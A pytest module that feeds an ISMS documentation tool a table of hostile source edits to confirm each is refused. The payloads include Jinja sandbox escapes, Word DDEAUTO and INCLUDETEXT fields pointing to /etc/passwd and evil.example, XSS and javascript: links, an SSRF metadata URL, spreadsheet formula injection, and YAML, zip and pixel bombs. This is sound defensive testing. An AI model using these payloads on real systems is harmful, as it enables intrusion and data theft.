"""Sources are untrusted input: a table of hostile and malformed mutations of the sample, each refused
by `isms check` with the editor's file and line (exit 1) or accepted and shown literally.

Every case is a change a pull request could make. The expected line is computed from where the case
put its text, so the table says what the editor would see: `path:line:col: error: ...` first.
"""

from __future__ import annotations

import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import copy_cache_entries, copy_sample, serve

# --------------------------------------------------------------------------- mutations


def _lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def append_procedure(root: Path, control: str, *lines: str) -> tuple[str, int]:
    """Add lines at the end of a control's procedure (its last key); returns (file, first new line)."""
    path = root / "controls" / f"{control}.yaml"
    existing = _lines(path)
    path.write_text("\n".join([*existing, "", *("  " + line if line else "" for line in lines)]) + "\n", encoding="utf-8")
    return f"controls/{control}.yaml", len(existing) + 2


def append_text(root: Path, relative: str, *lines: str) -> tuple[str, int]:
    path = root / relative
    existing = _lines(path)
    path.write_text("\n".join([*existing, "", *lines]) + "\n", encoding="utf-8")
    return relative, len(existing) + 2


def replace_line(root: Path, relative: str, old: str, new: str) -> tuple[str, int]:
    path = root / relative
    lines = _lines(path)
    number = next(n for n, line in enumerate(lines) if old in line)
    lines[number] = lines[number].replace(old, new, 1)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return relative, number + 1


def write(root: Path, relative: str, data: str | bytes) -> tuple[str, int]:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")
    return relative, 1


def tiny_png(red: int = 0xC0) -> bytes:
    """A valid 2x2 PNG; another `red` gives other bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + bytes([red, 0x20, 0x20]) * 2 + b"\x00" + b"\x20\x20\xc0" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@dataclass(frozen=True)
class Case:
    name: str
    mutate: Callable[[Path], tuple[str, int] | None]  # -> (file, line) of the expected first problem
    message: str | None = None  # part of the first problem's message; None: the sources are accepted


def ctl(*lines: str, control: str = "5.15") -> Callable[[Path], tuple[str, int]]:
    return lambda root: append_procedure(root, control, *lines)


def chapter(*lines: str) -> Callable[[Path], tuple[str, int]]:
    return lambda root: append_text(root, "manual_src/manual/04_context.rst", *lines)


def symlink(relative: str, target: str) -> Callable[[Path], tuple[str, int]]:
    def mutate(root: Path) -> tuple[str, int]:
        path = root / relative
        if path.exists():
            path.unlink()
        path.symlink_to(target)
        return relative, 1

    return mutate


def numbering(key: str, value: str) -> Callable[[Path], tuple[str, int]]:
    return lambda root: replace_line(root, "manual_src/profile.yaml", f"  {key}: ", f"  {key}: '{value}' #")


def deep_list(root: Path) -> tuple[str, int]:
    return replace_line(root, "controls/5.15.yaml", "applicable: true", "nested: " + "[" * 5000 + "]" * 5000 + "\napplicable: true")


def alias_bomb(root: Path) -> tuple[str, int]:
    lines = ['lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for name, previous in zip("bcdefghi", "abcdefgh", strict=True):
        lines.append(f"lol{name}: &{name} [" + ",".join(f"*{previous}" for _ in range(9)) + "]")
    relative, line = append_text(root, "manual_src/profile.yaml", *lines)
    return relative, line + 1  # the first alias of a list


def svg_image(root: Path) -> tuple[str, int]:
    write(root, "controls/img/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    return append_procedure(root, "5.15", ".. image:: img/logo.svg")


def image_with_script_target(root: Path) -> tuple[str, int]:
    write(root, "controls/img/ok.png", tiny_png())
    relative, line = append_procedure(root, "5.15", ".. image:: img/ok.png", "   :target: javascript:alert(1)")
    return relative, line + 1


def pixel_bomb(root: Path) -> tuple[str, int]:
    """A PNG whose header declares 30,000 x 30,000 pixels (the bytes after the header do not matter:
    the size is refused before anything decodes it)."""
    png = bytearray(tiny_png())
    png[16:24] = (30_000).to_bytes(4, "big") + (30_000).to_bytes(4, "big")
    write(root, "controls/img/bomb.png", bytes(png))
    return append_procedure(root, "5.15", ".. image:: img/bomb.png")


def jpeg_header(width: int, height: int) -> bytes:
    """SOI, an APP0 segment, then a baseline frame header declaring the size."""
    app0 = b"\xff\xe0" + (16).to_bytes(2, "big") + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0" + (17).to_bytes(2, "big") + b"\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x03" + b"\x00" * 9
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def jpeg_bomb(root: Path) -> tuple[str, int]:
    write(root, "controls/img/bomb.jpg", jpeg_header(65_000, 65_000))
    return append_procedure(root, "5.15", ".. image:: img/bomb.jpg")


def png_image(root: Path) -> None:
    write(root, "controls/img/ok.png", tiny_png())
    append_procedure(root, "5.15", ".. image:: img/ok.png", "   :alt: 構成図")


def empty_file(relative: str, text: str = "") -> Callable[[Path], tuple[str, int]]:
    return lambda root: write(root, relative, text)


def folder_instead(relative: str) -> Callable[[Path], tuple[str, int]]:
    def mutate(root: Path) -> tuple[str, int]:
        path = root / relative
        if path.exists():
            path.unlink()
        path.mkdir(parents=True)
        return relative, 1

    return mutate


def policy_file(value: str) -> Callable[[Path], tuple[str, int]]:
    return lambda root: replace_line(root, "policy_templates/policies.yaml", "file: policies/backup.rst", f"file: {value}")


def long_threat(root: Path) -> tuple[str, int]:
    return replace_line(root, "manual_src/risks.yaml", "threat: 図面の紛失", "threat: " + "長" * 33_000 + "図面の紛失")


def bom_chapter(root: Path) -> None:
    path = root / "manual_src/manual/04_context.rst"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())


def crlf_control(root: Path) -> None:
    path = root / "controls/5.15.yaml"
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))


def org_name(value: str) -> Callable[[Path], None]:
    def mutate(root: Path) -> None:
        replace_line(root, "manual_src/profile.yaml", "  name: 株式会社", f"  name: {value!r} #")

    return mutate


def threat(value: str, old: str = "図面の紛失・持出しによる顧客機密の漏えい") -> Callable[[Path], None]:
    def mutate(root: Path) -> None:
        replace_line(root, "manual_src/risks.yaml", f"threat: {old}", f"threat: {value!r}")

    return mutate


def exclusion(value: str) -> Callable[[Path], None]:
    def mutate(root: Path) -> None:
        path = root / "controls/8.25.yaml"
        text = re.sub(r"exclusion: >-\n(  .*\n)+", lambda m: f"exclusion: {value!r}\n", path.read_text(encoding="utf-8"))
        path.write_text(text, encoding="utf-8")

    return mutate


FRAME = "policy_templates/word/frame.docx"


def frame_part(part: str, old: str, new: str) -> Callable[[Path], tuple[str, int]]:
    """Edit the text of one part of the Word frame template (as a pull request could)."""

    def mutate(root: Path) -> tuple[str, int]:
        path = root / FRAME
        with zipfile.ZipFile(path) as archive:
            items = [(info.filename, archive.read(info)) for info in archive.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in items:
                if name == part:
                    assert old.encode() in data, (part, old)
                    data = data.replace(old.encode(), new.encode(), 1)
                archive.writestr(name, data)
        return FRAME, 1

    return mutate


def chapter_into_git(root: Path) -> tuple[str, int]:
    """What actions/checkout leaves in .git/config: a token a symlinked chapter would publish."""
    (root / ".git").mkdir(exist_ok=True)
    (root / ".git/config").write_text('[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic SECRETTOKEN123\n', encoding="utf-8")
    return symlink("manual_src/manual/11_zz.rst", "../../.git/config")(root)


def frame_macros(root: Path) -> tuple[str, int]:
    with zipfile.ZipFile(root / FRAME, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 508)
    return FRAME, 1


def frame_zip_bomb(root: Path) -> tuple[str, int]:
    with zipfile.ZipFile(root / FRAME, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/bomb.bin", b"\0" * 60_000_000)
    return FRAME, 1


def remove(relative: str) -> Callable[[Path], tuple[str, int]]:
    def mutate(root: Path) -> tuple[str, int]:
        (root / relative).unlink()
        return relative, 1

    return mutate


CASES = [
    # ---- the Word frame is a template too: sandboxed, bounded, checked before the build
    Case("frame-dunder", frame_part("word/header1.xml", "{{ L.title }}", "{{ L.title.__class__.__mro__ }}"), "'__class__' is not allowed in the frame"),
    Case("frame-include", frame_part("word/document.xml", "{{ organisation }}", "{% include '/etc/passwd' %}"), "'include' is not allowed"),
    Case("frame-unknown-filter", frame_part("word/footer1.xml", "{{ L.page }}", "{{ L.page|bogus }}"), "No filter named 'bogus'"),
    Case("frame-syntax", frame_part("word/document.xml", "{{ organisation }}", "{{ organisation }"), "template syntax"),
    Case("frame-zip-bomb", frame_zip_bomb, "unpacks to"),
    Case("frame-missing", remove(FRAME), "Word template missing"),
    Case("frame-lost-body", frame_part("word/document.xml", "{{p body }}", "{{ organisation }}"), "lost the body tag"),
    # Active content the frame would carry into every Word file (hostile test, 2026-12-01).
    Case("frame-dde-field", frame_part("word/footer1.xml", " PAGE ", ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '), "the field 'DDEAUTO c:"),
    Case("frame-includetext-field", frame_part("word/document.xml", " NUMPAGES ", ' INCLUDETEXT "file:///etc/passwd" '), "'INCLUDETEXT \"file:///etc/passwd\"' is not allowed"),
    Case("frame-attached-template", frame_part("word/settings.xml", '<w:zoom w:percent="100"/>', '<w:zoom w:percent="100"/><w:attachedTemplate r:id="rId99"/>'), "<attachedTemplate> loads a template"),
    Case("frame-external-relationship", frame_part("word/_rels/document.xml.rels", 'Target="http://example.com"', 'Target="file:///etc/passwd"'), "an external link to 'file:///etc/passwd' is not allowed"),
    Case("frame-macros", frame_macros, "word/vbaProject.bin: macros"),
    Case("frame-single-quoted-field", frame_part("word/footer1.xml", "</w:ftr>", "<w:p><w:fldSimple w:instr='INCLUDETEXT \"\\\\evil.example\\share\\x.docx\"'/></w:p></w:ftr>"), "the field 'INCLUDETEXT"),
    Case("frame-nested-field", frame_part("word/footer1.xml", " PAGE ", ' INCLUDETEXT "</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>" '), "the field 'INCLUDETEXT"),
    Case("frame-single-quoted-relationship", frame_part("word/_rels/document.xml.rels", "</Relationships>", "<Relationship Id='rIdEvil' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='http://evil.example/t.png' TargetMode='External'/></Relationships>"), "an external link to 'http://evil.example/t.png'"),
    Case("frame-sum-concatenation", frame_part("word/footer1.xml", "{{ L.page }}", "{{ L.page }}{% for i in range(1000) %}{{ ([[1]]*66666)|sum(start=[])|length }}{% endfor %}"), "sum adds numbers only"),
    Case("frame-fails-when-it-runs", frame_part("word/footer1.xml", "{{ L.page }}", "{{ L.page }}{{ 1/0 }}"), "the frame fails when it runs (ZeroDivisionError"),
    Case("reference-not-docx", lambda root: write(root, "policy_templates/word/reference.docx", b"not a zip"), "not a Word document"),
    # ---- templates: no code, no files, budgets
    Case("jinja-os-system", ctl("{{ lipsum.__globals__['os'].system('touch /tmp/isms-pwned') }}"), "undefined template variable"),
    Case("jinja-subclasses", ctl("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "template not allowed"),
    Case("jinja-read-file", ctl("{{ lipsum.__globals__.__builtins__.open('/etc/passwd').read() }}"), "undefined template variable"),
    Case("jinja-cycler", ctl("{{ cycler.__init__.__globals__ }}"), "template not allowed"),
    Case("jinja-attr-filter", ctl("{{ org|attr('__class__') }}"), "template not allowed"),
    Case("jinja-dunder-of-data", ctl("{{ roles.ciso.__class__.__init__ }}"), "template not allowed"),
    Case("jinja-method-call", ctl("{{ org.name.encode() }}"), "template not allowed"),
    Case("jinja-format-width", ctl("{{ '{:>999999999}'.format(1) }}"), "template not allowed"),
    Case("jinja-percent-format", ctl("{{ '%999999999d' % 1 }}"), "template not allowed"),
    Case("jinja-include", ctl("{% include '/etc/passwd' %}"), "'include' is not allowed"),
    Case("jinja-import", ctl("{% import 'x.j2' as x %}"), "'import' is not allowed"),
    Case("jinja-extends", chapter("{% extends 'base.html' %}"), "'extends' is not allowed"),
    Case("jinja-huge-range", ctl("{% for i in range(10**9) %}{% endfor %}"), "too large"),
    Case("jinja-huge-string", ctl("{{ 'x' * 10**10 }}"), "template over its limits"),
    Case("jinja-nested-loops", ctl("{% for a in range(1000) %}{% for b in range(1000) %}{% endfor %}{% endfor %}"), "loop iterations"),
    Case("jinja-doubling", ctl("{% set a = 'x' * 100000 %}{% set b = a ~ a %}{{ b ~ b }}"), "template over its limits"),
    Case("jinja-exponential-macro", ctl("{% macro f(n) %}{% if n > 0 %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(30) }}"), "template over its limits"),
    Case("jinja-endless-macro", ctl("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"), "calls itself"),
    Case("jinja-replace-bomb", ctl("{{ ('x' * 1000)|replace('x', 'y' * 1000) }}"), "template over its limits"),
    Case("jinja-join-bomb", ctl("{{ (['x' * 100000] * 1000)|join }}"), "template over its limits"),
    Case("jinja-indent-bomb", ctl("{{ (('a' ~ '\\n') * 90000)|indent(900) }}"), "template over its limits"),
    Case("jinja-power", ctl("{{ 10 ** 10 ** 10 }}"), "template over its limits"),
    Case("jinja-namespace", ctl("{% set ns = namespace(x='') %}"), "undefined template variable"),
    # Budgets that one C-level operation could outrun (hostile test, 2026-12-01): weighed before they run.
    Case("jinja-nested-repeat-compare", ctl("{{ [[[1]*200000]*200000]*200000 == [[[1]*200000]*200000]*200000 }}"), "longer than 200,000"),
    Case("jinja-repeated-big-string", ctl("{{ ['a'*200000]*6000 }}"), "longer than 200,000"),
    Case("jinja-literal-fan-out", ctl("{% set a = ['x'*1000]*100 %}{% set b = [a,a,a,a,a,a,a,a,a,a] %}{% set c = [b,b,b,b,b,b,b,b,b,b] %}{{ c|string }}"), "longer than 200,000"),
    Case("jinja-sum-concatenation", ctl("{{ ([[1]]*66666)|sum(start=[])|length }}"), "sum adds numbers only"),
    Case("jinja-too-deep-to-compile", ctl("{{ " + "1*" * 260 + "1 }}", "", "後文。"), "too complex to compile"),
    # ---- files stay inside the repository
    Case("image-etc-passwd", ctl(".. image:: ../../../../etc/passwd"), "outside the repository"),
    Case("image-absolute", ctl(".. image:: /etc/passwd"), "relative path"),
    Case("image-url", ctl(".. image:: https://example.com/x.png"), "relative path"),
    Case("image-missing", ctl(".. image:: img/none.png"), "does not exist"),
    Case("image-svg", svg_image, "not a PNG, JPEG or GIF"),
    Case("figure-etc-passwd", ctl(".. figure:: ../../../../etc/passwd"), "outside the repository"),
    Case("rst-include", ctl(".. include:: /etc/passwd"), "'include' is not allowed"),
    Case("rst-literalinclude", ctl(".. literalinclude:: /etc/passwd"), "'literalinclude' is not allowed"),
    Case("rst-include-space", ctl(".. include :: /etc/passwd"), "'include' is not allowed"),  # docutils takes "name ::" too
    Case("raw-space", ctl(".. raw :: html", "", "   <script>alert(1)</script>"), "'raw' is not allowed"),
    Case("image-space-etc-passwd", ctl(".. image :: ../../../../etc/passwd"), "outside the repository"),
    Case("csv-table-file", ctl(".. csv-table:: x", "   :file: /etc/passwd"), ":file: is not allowed"),
    Case("csv-table-url", ctl(".. csv-table:: x", "   :url: http://169.254.169.254/latest/meta-data"), ":url: is not allowed"),
    Case("raw-file", ctl(".. raw:: html", "   :file: /etc/passwd"), "'raw' is not allowed"),
    Case("policy-file-escape", policy_file("../../../../etc/passwd"), "outside the repository"),
    Case("policy-file-absolute", policy_file("/etc/passwd"), "outside the repository"),
    Case("chapter-symlink-out", symlink("manual_src/manual/11_extra.rst", "/etc/passwd"), "outside the repository"),
    Case("chapter-symlink-into-git", chapter_into_git, "leads into .git/"),
    Case("source-fifo", lambda root: (os.mkfifo(root / "controls/x.yaml"), ("controls/x.yaml", 1))[1], "this is not a regular file"),
    Case("chapter-without-a-title", lambda root: write(root, "manual_src/manual/11_x.rst", "見出しのない段落だけの章。\n"), "a manual chapter needs a title"),
    Case("control-symlink-out", symlink("controls/5.15.yaml", "/etc/hostname"), "outside the repository"),
    Case("profile-symlink-out", symlink("manual_src/profile.yaml", "/etc/hostname"), "outside the repository"),
    # ---- no active content on the auditors' site
    Case("raw-html-script", ctl(".. raw:: html", "", "   <script>alert(1)</script>"), "'raw' is not allowed"),
    # Directives where docutils finds them and a line's start does not show them (hostile test, 2026-12-01).
    Case("raw-in-a-list-item", ctl("- .. raw:: html", "", "     <b>x</b><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"), "'raw' is not allowed"),
    Case("raw-openxml-in-a-list-item", ctl("- .. raw:: openxml", "", '     <w:p><w:r><w:instrText> INCLUDETEXT "file:///etc/passwd" </w:instrText></w:r></w:p>'), "'raw' is not allowed"),
    Case("raw-in-a-field-body", ctl(":f: .. raw:: html", "", "   <i>x</i>"), "'raw' is not allowed"),
    Case("include-in-a-list-item", ctl("- .. include:: /etc/passwd", "     :literal:"), "'include' is not allowed"),
    Case("raw-after-line-separators", ctl("テスト\u2028\u2028.. raw:: html\u2028\u2028   <i>x</i>"), "control character U+2028"),
    Case("title-directive", ctl(".. title:: 別のページ名"), "'title' is not available in sources"),
    Case("header-directive", ctl(".. header:: 全ページの見出し"), "'header' is not available in sources"),
    Case("sectnum-in-a-list-item", ctl("- .. sectnum::"), "'sectnum' is not available in sources"),
    Case("package-html-directive", ctl(".. isms-html::", "", "   <script>alert(1)</script>"), "only docutils directives are supported"),
    Case("link-javascript", ctl("`クリック <javascript:alert(1)>`_"), "links may be http, https or mailto"),
    Case("link-javascript-tab", ctl("`x <java\tscript:alert(1)>`_ です。"), "links may be http, https or mailto"),
    Case("link-javascript-mixed-case", ctl("`クリック <JaVaScRiPt:alert(1)>`_"), "links may be http, https or mailto"),
    Case("target-javascript", ctl(".. _evil: javascript:alert(1)", "", "`evil`_"), "links may be http, https or mailto"),
    Case("link-data", ctl("`x <data:text/html;base64,PHNjcmlwdD4=>`_"), "links may be http, https or mailto"),
    Case("link-vbscript", ctl("`x <vbscript:msgbox(1)>`_"), "links may be http, https or mailto"),
    # Links without a scheme reach another machine or leave the site (hostile test, 2026-12-01).
    Case("link-network-path", ctl("`共有 <//evil.example/x>`_"), "is not a web address"),
    Case("link-windows-share", ctl("`共有 <\\\\evil.example\\share\\a.docx>`_"), "is not a web address"),
    Case("link-up-and-out", ctl("`上 <../../../../../../etc/passwd>`_"), "is not a web address"),
    # What Sphinx refuses on the generated pages is refused by the check (hostile test, 2026-12-01).
    Case("role-numref", ctl("参照は :numref:`ctl-5.1` です。"), ":numref: is not available"),
    Case("role-doc", ctl("参照は :doc:`ctl-5.3` です。"), ":doc: is not available"),
    Case("citation", ctl(".. [CIT1] 引用文献", "", "本文 [CIT1]_ です。"), "citation [cit1] is not available"),
    Case("record-value-beyond-a-cell", lambda root: replace_line(root, "manual_src/records/corrective_actions.yaml", "description: 2025年7月", "description: " + "あ" * 40_000 + "2025年7月"), "does not fit a spreadsheet cell"),
    Case("image-target-javascript", image_with_script_target, "links may be http, https or mailto"),
    Case("image-pixel-bomb-png", pixel_bomb, "is 30,000 x 30,000 pixels"),
    Case("image-pixel-bomb-jpeg", jpeg_bomb, "is 65,000 x 65,000 pixels"),
    Case("meta-refresh", ctl(".. meta::", "   :http-equiv=refresh: 0; url=https://evil.example"), "'meta' is not allowed"),
    Case("role-raw", ctl(".. role:: raw-html(raw)", "   :format: html"), "'role' is not allowed"),
    Case("site-placeholder", ctl(".. isms-frame:: history ctl-5.15"), "only docutils directives are supported"),  # the site's own (isms.render.html.frames)
    Case("unicode-bidi", ctl(".. |rlo| unicode:: U+202E"), "'unicode' is not allowed"),
    Case("date-directive", ctl(".. |today| date::"), "'date' is not allowed"),
    Case("rst-unknown-target", ctl("詳細は `存在しない`_ を参照する。"), "Unknown target name"),
    Case("rst-undefined-substitution", ctl("|未定義| を参照する。"), "Undefined substitution"),
    Case("rst-missing-footnote", ctl("脚注 [9]_ を参照する。"), "Unknown target name"),
    # ---- resource limits and control characters
    Case("yaml-alias-bomb", alias_bomb, "repeats a list or mapping"),
    Case("yaml-deep-nesting", deep_list, "nested more than"),
    Case("yaml-huge-integer", lambda root: replace_line(root, "controls/5.15.yaml", "applicable: true", "big: " + "9" * 5000 + "\napplicable: true"), "digits"),
    Case("yaml-nul", lambda root: replace_line(root, "controls/5.15.yaml", "applicable: true", "applicable: true\x00"), "U+0000"),
    Case("yaml-vertical-tab", lambda root: replace_line(root, "manual_src/profile.yaml", "  name: 株式会社", "  name: 株式会社\x0b"), "U+000B"),
    Case("yaml-ansi-escape", lambda root: replace_line(root, "controls/8.25.yaml", "exclusion: >-", 'exclusion: "\\e[31m赤い文字で表示させる除外理由の文章です。"\nx: >-'), "U+001B"),
    Case("rst-bidi-override", chapter("管理者は\u202eトップ\u202cが承認する。"), "U+202E"),
    Case("cell-too-long", long_threat, "does not fit a spreadsheet cell"),
    Case("number-unknown-placeholder", numbering("policy", "ISMS-P-{bogus}"), "unknown placeholder {bogus}"),
    Case("number-bad-spec", numbering("policy", "ISMS-P-{seq:s}"), "is not allowed"),
    Case("number-huge-width", numbering("procedure", "C-{theme}-{num:01000000d}"), "is not allowed"),
    # ---- crashes that must be messages
    Case("target-date-feb-30", lambda root: replace_line(root, "controls/5.30.yaml", "target_date: 2027-03-31", "target_date: 2027-02-30"), "not a valid date"),
    Case("ledger-bad-date", lambda root: replace_line(root, "manual_src/releases.yaml", "date: 2026-04-01", "date: 2025-13-01"), "not a valid date"),
    Case("profile-empty", empty_file("manual_src/profile.yaml"), "the file is empty"),
    Case("control-empty", empty_file("controls/5.15.yaml"), "the file is empty"),
    Case("control-schema-comment-only", empty_file("controls/5.15.yaml", "# yaml-language-server: $schema=../tools/schema/control.schema.json\n"), "the file is empty"),
    Case("control-is-folder", folder_instead("controls/5.15.yaml"), "this is a folder"),
    Case("chapter-is-folder", folder_instead("manual_src/manual/04_context.rst"), "this is a folder"),
    Case("policies-empty", empty_file("policy_templates/policies.yaml"), "the file is empty"),
    Case("not-utf8", lambda root: write(root, "controls/5.15.yaml", "id: '5.15'\nowner: 情報".encode("shift_jis")), "not UTF-8"),
    Case("duplicate-label", ctl(".. _pol-access_control:", "", "重複するラベル", "--------------"), "defined twice"),
    Case("comment-before-policy-title", lambda root: replace_line(root, "policy_templates/policies/backup.rst", "バックアップ方針", ".. 内部メモ\n\nバックアップ方針"), "begins with its title"),
    Case("chapter-named-index", lambda root: write(root, "manual_src/manual/index.rst", "索引\n====\n\n本文。\n"), "cannot be named index.rst"),
    Case("file-too-large", lambda root: write(root, "manual_src/manual/99_big.rst", "大" * 2_000_000), "bytes; sources are limited"),
    # ---- valid text stays valid (accepted, shown literally: see test_hostile_text_is_inert)
    Case("bom-in-chapter", bom_chapter),
    Case("crlf-control", crlf_control),
    Case("emoji-and-rtl", ctl("絵文字 🎉 と右から左の文字 שלום עולם、مرحبا を含む。")),
    Case("markup-characters-in-org-name", org_name("R&D <core> *株式会社*")),
    Case("script-in-org-name", org_name("<script>alert(1)</script> & Co")),
    Case("formula-in-threat", threat('=HYPERLINK("http://evil.example","x")')),
    Case("formula-in-exclusion", exclusion("=cmd|' /C calc'!A1 当社は開発を行わないため、この管理策は適用しない。")),
    Case("plus-minus-at-in-threat", threat("@SUM(1+1) -2 +3", old="不要になった図面の不適切な廃棄")),
    Case("scalar-alias", lambda root: replace_line(root, "controls/5.15.yaml", "applicable: true", "applicable: &yes true")),
    Case("png-image", png_image),
]


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_sample(tmp_path_factory.mktemp("pristine") / "isms")


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(case: Case, pristine: Path, tmp_path: Path, run) -> None:
    import shutil

    root = tmp_path / "isms"
    shutil.copytree(pristine, root, symlinks=True)
    where = case.mutate(root)
    result = run("--root", str(root), "check")
    assert "Traceback" not in result.out + result.err
    assert not Path("/tmp/isms-pwned").exists()
    if case.message is None:
        assert result.code == 0, result.out
        return
    assert result.code == 1, f"accepted: {case.name}\n{result.err}"
    first = result.lines()[0]
    assert where is not None
    relative, line = where
    assert first.startswith(f"{relative}:{line}:"), f"expected {relative}:{line}: first, got:\n{result.out}"
    assert case.message in first, first
    assert "\x1b[" not in result.out + result.err  # no colour codes when the output is not a terminal


def test_frame_code_is_refused_when_it_runs(pristine: Path, tmp_path: Path) -> None:
    """Behind `isms check`, the Word writer renders the frame in the sandbox too."""
    import shutil

    from jinja2.sandbox import SecurityError

    from isms.render.docx.compose import compose

    root = tmp_path / "isms"
    shutil.copytree(pristine, root, symlinks=True)
    frame_part("word/header1.xml", "{{ L.title }}", "{{ L.title.__class__.__mro__[1].__subclasses__() }}")(root)
    body = (root / "policy_templates/word/reference.docx").read_bytes()
    with pytest.raises(SecurityError):
        compose(root / FRAME, body, {"L": {"title": "x"}}, seed="s")


def test_corpus_is_large_enough() -> None:
    refused = [c for c in CASES if c.message]
    assert len(CASES) >= 60 and len(refused) >= 50


# --------------------------------------------------------------------------- the root cause first


def test_typo_in_a_chapter_is_the_only_problem(sample: Path, run) -> None:
    relative, line = replace_line(sample, "manual_src/manual/04_context.rst", "{{ org.business }}", "{{ org.busines }}")
    result = run("--root", str(sample), "check")
    assert result.code == 1
    assert len(result.lines()) == 1, result.out
    assert result.lines()[0].startswith(f"{relative}:{line}:") and "busines" in result.lines()[0]


def test_broken_control_file_reports_no_consequences(sample: Path, run) -> None:
    relative, line = replace_line(sample, "controls/5.15.yaml", "applicable: true", "applicable: maybe")
    result = run("--root", str(sample), "check")
    assert result.code == 1
    assert result.lines()[0].startswith(f"{relative}:{line}:")
    assert not any("excluded" in line for line in result.lines()), result.out


def test_empty_policy_index_is_named(sample: Path, run) -> None:
    write(sample, "policy_templates/policies.yaml", "")
    result = run("--root", str(sample), "check")
    assert result.lines() == ["policy_templates/policies.yaml:1:1: error: the file is empty: it needs its keys (see the sample organisation's file of the same name)"]


def test_nul_is_reported_on_its_own_line(sample: Path, run) -> None:
    relative, line = replace_line(sample, "controls/5.15.yaml", "applicable: true", "applicable: true\x00")
    result = run("--root", str(sample), "check")
    assert result.lines()[0].startswith(f"{relative}:{line}:17:")
    assert len(result.lines()) == 1


def test_alias_bomb_is_refused_quickly(sample: Path, run) -> None:
    import time

    from isms.sources.yamlio import read_yaml

    alias_bomb(sample)
    started = time.perf_counter()
    data, problems = read_yaml(sample / "manual_src/profile.yaml", sample)
    assert data is None and problems and time.perf_counter() - started < 0.5
    result = run("--root", str(sample), "check")
    assert result.code == 1 and len(result.lines()) == 1


AUDITED_RUN = """
import json, os, sys
# Every process of the build (the site's, the helpers) records into one file: the hook is inherited
# by a fork, and so is this descriptor, opened before the hook (os.write is not audited).
events = os.open(sys.argv[1] + ".events", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
removing = [""]  # shutil.rmtree walks a tree by names relative to its folders' descriptors
def hook(event, args):
    if event == "shutil.rmtree":
        removing[0] = str(args[0])
        return
    if event == "open" and isinstance(args[0], (str, bytes)):
        path = os.fsdecode(args[0])
        kind, value = "opened", path if os.path.isabs(path) or not removing[0] else os.path.join(removing[0], path)
    elif event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname"):
        kind, value = "connected", str(args)
    elif event == "subprocess.Popen":
        kind, value = "opened", "exec:" + str(args[0])
    else:
        return
    os.write(events, (json.dumps([os.getpid(), kind, value]) + "\\n").encode())
sys.addaudithook(hook)
from isms.cli import main
code = main(sys.argv[2:])
record = {"code": code, "opened": [], "opened_by": [], "connected": []}
with open(sys.argv[1] + ".events", encoding="utf-8") as lines:
    for line in lines:
        pid, kind, value = json.loads(line)
        record[kind].append(value)
        if kind == "opened":
            record["opened_by"].append(pid)
open(sys.argv[1], "w").write(json.dumps(record))
"""


def audited(root: Path, log: Path, *argv: str) -> dict:
    """Run the `isms` CLI in a fresh interpreter with an audit hook that records every file it opens,
    every process it starts and every connection it tries."""
    import json
    import subprocess
    import sys

    scratch = log.parent / "tmp"  # the run's temporary files (pandoc's, openpyxl's) land here, not in /tmp
    scratch.mkdir(exist_ok=True)
    env = {**{k: v for k, v in os.environ.items() if k != "ISMS_CACHE_DIR"}, "TMPDIR": str(scratch)}  # the default: caches in build/
    subprocess.run([sys.executable, "-c", AUDITED_RUN, str(log), "--root", str(root), *argv], check=True, capture_output=True, env=env)
    return json.loads(log.read_text())


def outside_files(record: dict, root: Path, log: Path) -> list[str]:
    import sys

    import isms

    package = str(Path(isms.__file__).resolve().parent)
    # The system's MIME and time-zone tables are read by Python's standard library itself.
    system = ("/etc/mime.types", "/usr/share/zoneinfo/", "/etc/localtime")
    from isms.trust import key_path

    # The machine's key that seals build/ (isms.trust): the tool's own state, never a source.
    key = str(key_path().resolve())
    allowed = (str(root.resolve()), package, sys.prefix, sys.base_prefix, "/dev/", "/proc/", str(log.parent.resolve()), key, *system)
    return sorted({path for path in record["opened"] if not path.startswith("exec:") and not os.path.realpath(path).startswith(allowed)})


def test_check_opens_no_file_outside_the_repository(sample: Path, tmp_path: Path) -> None:
    """`isms check` of a hostile copy: nothing outside the copy (or the Python installation) is read."""
